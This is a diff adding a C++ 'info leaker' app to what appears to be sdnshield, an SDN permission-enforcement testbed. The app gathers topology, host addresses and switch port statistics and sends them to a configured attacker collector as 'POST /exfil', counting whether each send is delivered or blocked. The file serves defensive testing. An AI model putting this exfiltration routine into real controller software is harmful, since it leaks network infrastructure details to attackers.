@@ -1,0 +1,51 @@
+#include "apps/malicious/info_leaker.h"
+
+#include <sstream>
+
+namespace sdnshield::apps {
+
+std::string InfoLeakerApp::requestedManifest() const {
+  return "APP info_leaker\n"
+         "PERM visible_topology\n"
+         "PERM read_statistics\n"
+         "PERM network_access\n";
+}
+
+void InfoLeakerApp::init(ctrl::AppContext& context) { context_ = &context; }
+
+bool InfoLeakerApp::leak() {
+  std::ostringstream stolen;
+  auto topologyResponse = context_->api().readTopology();
+  if (topologyResponse.ok) {
+    stolen << "topology " << topologyResponse.value.toString() << "; links:";
+    for (const net::Link& link : topologyResponse.value.links()) {
+      stolen << " " << link.toString();
+    }
+    stolen << "; hosts:";
+    for (const net::Host& host : topologyResponse.value.hosts()) {
+      stolen << " " << host.ip.toString() << "@" << host.dpid;
+    }
+    for (of::DatapathId dpid : topologyResponse.value.switches()) {
+      of::StatsRequest request;
+      request.level = of::StatsLevel::kPort;
+      request.dpid = dpid;
+      auto statsResponse = context_->api().readStatistics(request);
+      if (statsResponse.ok) {
+        stolen << "; s" << dpid << " ports=" << statsResponse.value.ports.size();
+      }
+    }
+  } else {
+    stolen << "no topology access";
+  }
+  // "HTTP POST" to the attacker-controlled collector.
+  bool delivered = context_->host().netSend(
+      exfilIp_, exfilPort_, "POST /exfil " + stolen.str());
+  if (delivered) {
+    succeeded_.fetch_add(1);
+  } else {
+    blocked_.fetch_add(1);
+  }
+  return delivered;
+}
+
+}  // namespace sdnshield::apps
